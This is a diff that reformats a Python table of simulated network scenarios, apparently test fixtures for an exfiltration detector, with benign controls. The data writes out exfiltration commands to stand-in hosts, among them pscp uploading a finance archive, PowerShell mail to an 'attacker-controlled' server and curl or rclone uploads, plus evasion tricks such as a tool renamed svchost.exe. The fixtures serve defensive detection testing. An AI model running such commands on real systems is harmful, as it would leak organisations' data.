@@ -102,58 +102,244 @@ CHROME = Program(
 
 SCENARIOS: Mapping[str, Scenario] = {
     "test1-rclone-sftp": Scenario("sftp-rclone", "rclone copies over SFTP to 192.0.2.1:22 (seed test 1)", (_ssh("192.0.2.1", "go", GO_SSH, RCLONE),)),
-    "test2-pscp": Scenario("scp-putty", "pscp to 198.51.100.1:22 with -pw (seed test 2)", (
-        _ssh("198.51.100.1", "putty", PUTTY, Program(WIN + "pscp.exe", "pscp.exe -pw ******** C:\\Finance\\q3.zip drop@198.51.100.1:/in")),)),
-    "test3-webclient-loopback": Scenario("https-webclient", "PowerShell WebClient.UploadData to 127.0.0.1:4443 (seed test 3)", (
-        Step("exfil-loopback", "tls", "127.0.0.1", 4443, "https", Program(POWERSHELL, f'powershell.exe -NoProfile -Command "{WEBCLIENT}"'),
-             Act(client="schannel", tls13=False, self_signed=True)),), local="127.0.0.1", loopback=True, script=WEBCLIENT),
-    "test4-rclone-mega": Scenario("cloud-mega", "rclone copies to MEGA (seed test 4)", (
-        _web("198.51.100.46", "g.api.mega.co.nz", "go", MEGA, upload=0.002, label="benign"),
-        _web("198.51.100.47", "gfs270n071.userstorage.mega.co.nz", "go", MEGA, alpn=("http/1.1",))), written=WIN + "rclone_test.conf"),
-    "test5-smtp-powershell": Scenario("smtp-starttls", "PowerShell SmtpClient with EnableSsl to port 587 (seed test 5)", (
-        Step("exfil", "smtp_starttls", "203.0.113.25", 587, "smtp-starttls", Program(POWERSHELL, f'powershell.exe -NoProfile -Command "{MAIL}"'),
-             Act(client="schannel", name="smtp.attacker-controlled.example")),), script=MAIL),
-    "sftp-putty": Scenario("sftp-putty", "psftp batch put", (_ssh("198.51.100.2", "putty", PUTTY, Program(WIN + "psftp.exe", "psftp.exe -b up.txt drop@198.51.100.2")),)),
+    "test2-pscp": Scenario(
+        "scp-putty",
+        "pscp to 198.51.100.1:22 with -pw (seed test 2)",
+        (_ssh("198.51.100.1", "putty", PUTTY, Program(WIN + "pscp.exe", "pscp.exe -pw ******** C:\\Finance\\q3.zip drop@198.51.100.1:/in")),),
+    ),
+    "test3-webclient-loopback": Scenario(
+        "https-webclient",
+        "PowerShell WebClient.UploadData to 127.0.0.1:4443 (seed test 3)",
+        (
+            Step(
+                "exfil-loopback",
+                "tls",
+                "127.0.0.1",
+                4443,
+                "https",
+                Program(POWERSHELL, f'powershell.exe -NoProfile -Command "{WEBCLIENT}"'),
+                Act(client="schannel", tls13=False, self_signed=True),
+            ),
+        ),
+        local="127.0.0.1",
+        loopback=True,
+        script=WEBCLIENT,
+    ),
+    "test4-rclone-mega": Scenario(
+        "cloud-mega",
+        "rclone copies to MEGA (seed test 4)",
+        (
+            _web("198.51.100.46", "g.api.mega.co.nz", "go", MEGA, upload=0.002, label="benign"),
+            _web("198.51.100.47", "gfs270n071.userstorage.mega.co.nz", "go", MEGA, alpn=("http/1.1",)),
+        ),
+        written=WIN + "rclone_test.conf",
+    ),
+    "test5-smtp-powershell": Scenario(
+        "smtp-starttls",
+        "PowerShell SmtpClient with EnableSsl to port 587 (seed test 5)",
+        (
+            Step(
+                "exfil",
+                "smtp_starttls",
+                "203.0.113.25",
+                587,
+                "smtp-starttls",
+                Program(POWERSHELL, f'powershell.exe -NoProfile -Command "{MAIL}"'),
+                Act(client="schannel", name="smtp.attacker-controlled.example"),
+            ),
+        ),
+        script=MAIL,
+    ),
+    "sftp-putty": Scenario(
+        "sftp-putty", "psftp batch put", (_ssh("198.51.100.2", "putty", PUTTY, Program(WIN + "psftp.exe", "psftp.exe -b up.txt drop@198.51.100.2")),)
+    ),
     "scp-openssh": Scenario("scp-openssh", "OpenSSH scp", (_ssh("198.51.100.11", "openssh", OPENSSH, SCP),)),
-    "sftp-openssh": Scenario("sftp-openssh", "OpenSSH sftp batch", (_ssh("198.51.100.12", "openssh", OPENSSH, _linux("sftp", "sftp -b up.txt drop@198.51.100.12")),)),
-    "rsync-ssh": Scenario("rsync-ssh", "rsync over ssh", (_ssh("198.51.100.13", "openssh", OPENSSH, _linux("ssh", "ssh -l drop 198.51.100.13 rsync --server -logDtprze.iLsfxCIvu . /in")),)),
-    "sftp-script": Scenario("sftp-script", "python paramiko SFTP", (_ssh("198.51.100.14", "paramiko", "SSH-2.0-paramiko_3.4.0", _linux("python3", "python3 up.py --to 198.51.100.14")),)),
-    "ftps-explicit": Scenario("ftps-explicit", "AUTH TLS on 21, encrypted data sessions on high ports", (
-        Step("exfil", "ftps", "203.0.113.21", 21, "ftps-explicit", _linux("lftp", "lftp -e 'mirror -R docs /in' ftp.partner.example"),
-             Act(name="ftp.partner.example"), data_sessions=3),)),
-    "ftps-implicit": Scenario("ftps-implicit", "implicit FTPS on 990", (
-        Step("exfil", "ftps", "203.0.113.22", 990, "ftps-implicit", _linux("curl", "curl -T docs.tgz ftps://ftp2.partner.example/in/"),
-             Act(name="ftp2.partner.example"), data_sessions=1),)),
-    "https-upload": Scenario("https-upload", "curl PUT", (_web("198.51.100.43", "files.partner.example", "openssl", _linux("curl", "curl -T docs.tgz https://files.partner.example/up/")),)),
-    "https-altport": Scenario("https-altport", "curl -k to a self-signed server on 8443, by address", (
-        _web("198.51.100.44", None, "openssl", _linux("curl", "curl -k -T docs.tgz https://198.51.100.44:8443/up"), port=8443, tls13=False),)),
-    "https-webdav": Scenario("https-webdav", "rclone to WebDAV", (_web("198.51.100.45", "dav.partner.example", "go", _linux("rclone", "rclone copy docs dav:in"), sessions=3, gap=0.01),)),
-    "https-s3": Scenario("https-s3", "aws s3 cp", (_web("198.51.100.48", "drop-7.s3.amazonaws.com", "openssl", _linux("aws", "aws s3 cp --recursive docs s3://drop-7/"), alpn=("http/1.1",)),)),
-    "smtps": Scenario("smtps", "mail with attachment on 465", (
-        Step("exfil", "tls", "203.0.113.26", 465, "smtps", _linux("python3", "python3 mail.py"), Act(name="mail.partner.example")),)),
-    "imaps-append": Scenario("imaps-append", "drafts appended on 993", (
-        Step("exfil", "tls", "203.0.113.27", 993, "imaps", _linux("python3", "python3 drafts.py"), Act(name="imap.partner.example")),)),
-    "quic-h3": Scenario("quic-h3", "HTTP/3 PUT on udp/443", (
-        Step("exfil", "quic", "198.51.100.49", 443, "quic", _linux("h3put", "h3put https://h3.partner.example/up docs.tgz"), Act(name="h3.partner.example"), proto="udp"),)),
-    "low-slow": Scenario("low-slow", "40 small uploads over ten hours", (
-        _web("198.51.100.50", "sync.partner.example", "openssl", _linux("curl", "curl -T part https://sync.partner.example/p"), sessions=40, gap=900.0),)),
-    "port-mismatch": Scenario("port-mismatch", "an SSH server on 443", (_ssh("198.51.100.51", "openssh", OPENSSH, _linux("scp", "scp -P 443 docs.tgz drop@198.51.100.51:"), port=443),)),
+    "sftp-openssh": Scenario(
+        "sftp-openssh", "OpenSSH sftp batch", (_ssh("198.51.100.12", "openssh", OPENSSH, _linux("sftp", "sftp -b up.txt drop@198.51.100.12")),)
+    ),
+    "rsync-ssh": Scenario(
+        "rsync-ssh",
+        "rsync over ssh",
+        (_ssh("198.51.100.13", "openssh", OPENSSH, _linux("ssh", "ssh -l drop 198.51.100.13 rsync --server -logDtprze.iLsfxCIvu . /in")),),
+    ),
+    "sftp-script": Scenario(
+        "sftp-script",
+        "python paramiko SFTP",
+        (_ssh("198.51.100.14", "paramiko", "SSH-2.0-paramiko_3.4.0", _linux("python3", "python3 up.py --to 198.51.100.14")),),
+    ),
+    "ftps-explicit": Scenario(
+        "ftps-explicit",
+        "AUTH TLS on 21, encrypted data sessions on high ports",
+        (
+            Step(
+                "exfil",
+                "ftps",
+                "203.0.113.21",
+                21,
+                "ftps-explicit",
+                _linux("lftp", "lftp -e 'mirror -R docs /in' ftp.partner.example"),
+                Act(name="ftp.partner.example"),
+                data_sessions=3,
+            ),
+        ),
+    ),
+    "ftps-implicit": Scenario(
+        "ftps-implicit",
+        "implicit FTPS on 990",
+        (
+            Step(
+                "exfil",
+                "ftps",
+                "203.0.113.22",
+                990,
+                "ftps-implicit",
+                _linux("curl", "curl -T docs.tgz ftps://ftp2.partner.example/in/"),
+                Act(name="ftp2.partner.example"),
+                data_sessions=1,
+            ),
+        ),
+    ),
+    "https-upload": Scenario(
+        "https-upload",
+        "curl PUT",
+        (_web("198.51.100.43", "files.partner.example", "openssl", _linux("curl", "curl -T docs.tgz https://files.partner.example/up/")),),
+    ),
+    "https-altport": Scenario(
+        "https-altport",
+        "curl -k to a self-signed server on 8443, by address",
+        (_web("198.51.100.44", None, "openssl", _linux("curl", "curl -k -T docs.tgz https://198.51.100.44:8443/up"), port=8443, tls13=False),),
+    ),
+    "https-webdav": Scenario(
+        "https-webdav",
+        "rclone to WebDAV",
+        (_web("198.51.100.45", "dav.partner.example", "go", _linux("rclone", "rclone copy docs dav:in"), sessions=3, gap=0.01),),
+    ),
+    "https-s3": Scenario(
+        "https-s3",
+        "aws s3 cp",
+        (_web("198.51.100.48", "drop-7.s3.amazonaws.com", "openssl", _linux("aws", "aws s3 cp --recursive docs s3://drop-7/"), alpn=("http/1.1",)),),
+    ),
+    "smtps": Scenario(
+        "smtps",
+        "mail with attachment on 465",
+        (Step("exfil", "tls", "203.0.113.26", 465, "smtps", _linux("python3", "python3 mail.py"), Act(name="mail.partner.example")),),
+    ),
+    "imaps-append": Scenario(
+        "imaps-append",
+        "drafts appended on 993",
+        (Step("exfil", "tls", "203.0.113.27", 993, "imaps", _linux("python3", "python3 drafts.py"), Act(name="imap.partner.example")),),
+    ),
+    "quic-h3": Scenario(
+        "quic-h3",
+        "HTTP/3 PUT on udp/443",
+        (
+            Step(
+                "exfil",
+                "quic",
+                "198.51.100.49",
+                443,
+                "quic",
+                _linux("h3put", "h3put https://h3.partner.example/up docs.tgz"),
+                Act(name="h3.partner.example"),
+                proto="udp",
+            ),
+        ),
+    ),
+    "low-slow": Scenario(
+        "low-slow",
+        "40 small uploads over ten hours",
+        (
+            _web(
+                "198.51.100.50",
+                "sync.partner.example",
+                "openssl",
+                _linux("curl", "curl -T part https://sync.partner.example/p"),
+                sessions=40,
+                gap=900.0,
+            ),
+        ),
+    ),
+    "port-mismatch": Scenario(
+        "port-mismatch",
+        "an SSH server on 443",
+        (_ssh("198.51.100.51", "openssh", OPENSSH, _linux("scp", "scp -P 443 docs.tgz drop@198.51.100.51:"), port=443),),
+    ),
     "renamed-tool": Scenario("renamed-tool", "rclone that calls itself svchost.exe", (_ssh("198.51.100.22", "go", GO_SSH, SERVICE),)),
-    "ipv6": Scenario("ipv6", "sftp over IPv6", (_ssh("2001:db8:99::1", "openssh", OPENSSH, _linux("sftp", "sftp -b up.txt drop@2001:db8:99::1")),), local="2001:db8:30::41"),
-    "inbound-pull": Scenario("inbound-pull", "an outside host fetches by scp", (
-        Step("pull", "ssh", "198.51.100.77", 22, "ssh/scp", Program("/usr/sbin/sshd", "sshd: backup [priv]", user="root", parent="/usr/sbin/sshd", parent_command_line="sshd -D"),
-             Act(client="openssh", banner=OPENSSH), upload=0.0, download=1.0, inbound=True),)),
+    "ipv6": Scenario(
+        "ipv6",
+        "sftp over IPv6",
+        (_ssh("2001:db8:99::1", "openssh", OPENSSH, _linux("sftp", "sftp -b up.txt drop@2001:db8:99::1")),),
+        local="2001:db8:30::41",
+    ),
+    "inbound-pull": Scenario(
+        "inbound-pull",
+        "an outside host fetches by scp",
+        (
+            Step(
+                "pull",
+                "ssh",
+                "198.51.100.77",
+                22,
+                "ssh/scp",
+                Program("/usr/sbin/sshd", "sshd: backup [priv]", user="root", parent="/usr/sbin/sshd", parent_command_line="sshd -D"),
+                Act(client="openssh", banner=OPENSSH),
+                upload=0.0,
+                download=1.0,
+                inbound=True,
+            ),
+        ),
+    ),
     "one-sided": Scenario("one-sided", "scp, only client to server seen", (_ssh("198.51.100.11", "openssh", OPENSSH, SCP),), hidden="in"),
-    "mid-stream": Scenario("mid-stream", "https upload joined after 30 packets", (
-        _web("198.51.100.43", "files.partner.example", "openssl", _linux("curl", "curl -T docs.tgz https://files.partner.example/up/")),), cut=30),
+    "mid-stream": Scenario(
+        "mid-stream",
+        "https upload joined after 30 packets",
+        (_web("198.51.100.43", "files.partner.example", "openssl", _linux("curl", "curl -T docs.tgz https://files.partner.example/up/")),),
+        cut=30,
+    ),
     "duplicates": Scenario("duplicates", "every packet captured twice", (_ssh("198.51.100.11", "openssh", OPENSSH, SCP),), twice=True),
-    "backup-and-rogue": Scenario("backup-authorised", "restic to the sanctioned server, and a rogue scp", (
-        Step("authorised", "ssh", "203.0.113.30", 22, "ssh/sftp", RESTIC, Act(client="openssh", banner=OPENSSH)), _ssh("198.51.100.11", "openssh", OPENSSH, SCP, upload=0.6)),
-        allow=("203.0.113.30",)),
-    "benign-ssh": Scenario("ssh-interactive", "a typed session", (
-        Step("benign", "ssh_typed", "198.51.100.60", 22, "ssh", _linux("ssh", "ssh admin@198.51.100.60"), Act(client="openssh", banner=OPENSSH), upload=0.0),)),
-    "benign-download": Scenario("download", "a download by https", (
-        Step("benign", "tls", "198.51.100.61", 443, "https", CHROME, Act(client="browser", name="www.example.org", alpn=H2), upload=0.0, download=3.0),)),
-    "benign-call": Scenario("video-call", "symmetric media on udp/443", (
-        Step("benign", "media", "198.51.100.62", 443, "udp", CHROME, Act(), upload=0.4, proto="udp"),)),
-}  # fmt: skip
+    "backup-and-rogue": Scenario(
+        "backup-authorised",
+        "restic to the sanctioned server, and a rogue scp",
+        (
+            Step("authorised", "ssh", "203.0.113.30", 22, "ssh/sftp", RESTIC, Act(client="openssh", banner=OPENSSH)),
+            _ssh("198.51.100.11", "openssh", OPENSSH, SCP, upload=0.6),
+        ),
+        allow=("203.0.113.30",),
+    ),
+    "benign-ssh": Scenario(
+        "ssh-interactive",
+        "a typed session",
+        (
+            Step(
+                "benign",
+                "ssh_typed",
+                "198.51.100.60",
+                22,
+                "ssh",
+                _linux("ssh", "ssh admin@198.51.100.60"),
+                Act(client="openssh", banner=OPENSSH),
+                upload=0.0,
+            ),
+        ),
+    ),
+    "benign-download": Scenario(
+        "download",
+        "a download by https",
+        (
+            Step(
+                "benign",
+                "tls",
+                "198.51.100.61",
+                443,
+                "https",
+                CHROME,
+                Act(client="browser", name="www.example.org", alpn=H2),
+                upload=0.0,
+                download=3.0,
+            ),
+        ),
+    ),
+    "benign-call": Scenario(
+        "video-call", "symmetric media on udp/443", (Step("benign", "media", "198.51.100.62", 443, "udp", CHROME, Act(), upload=0.4, proto="udp"),)
+    ),
+}
